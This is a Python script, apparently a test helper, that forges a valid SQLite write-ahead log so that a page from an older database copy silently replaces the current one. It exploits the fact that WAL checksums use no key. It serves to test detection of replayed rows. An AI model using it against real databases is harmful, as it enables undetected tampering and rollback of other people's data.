#!/usr/bin/env python3
"""The attacker's side of "a replayed row is detected": writes a WAL that SQLite takes as valid,
of one commit that puts a page of an older copy of the database back over the current one.
A WAL's checksums need no key, so anyone who can write beside the store can make one.

usage: forge_wal.py OLD_DB PAGE CURRENT_DB WAL
"""
import os, struct, sys

def checksum(data, s0, s1):
    for i in range(0, len(data), 8):
        x0, x1 = struct.unpack("<II", data[i:i + 8])
        s0 = (s0 + x0 + s1) & 0xFFFFFFFF
        s1 = (s1 + x1 + s0) & 0xFFFFFFFF
    return s0, s1

old_db, page, current_db, wal = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
old = open(old_db, "rb").read()
current = open(current_db, "rb").read()
page_size = struct.unpack(">H", current[16:18])[0]
page_size = 65536 if page_size == 1 else page_size
salt1, salt2 = struct.unpack(">II", os.urandom(8))
head = struct.pack(">IIIIII", 0x377F0682, 3007000, page_size, 0, salt1, salt2)
s0, s1 = checksum(head, 0, 0)
head += struct.pack(">II", s0, s1)
data = old[(page - 1) * page_size:page * page_size]
frame = struct.pack(">II", page, len(current) // page_size)
s0, s1 = checksum(frame + data, s0, s1)
frame += struct.pack(">IIII", salt1, salt2, s0, s1)
with open(wal, "wb") as f:
    f.write(head + frame + data)
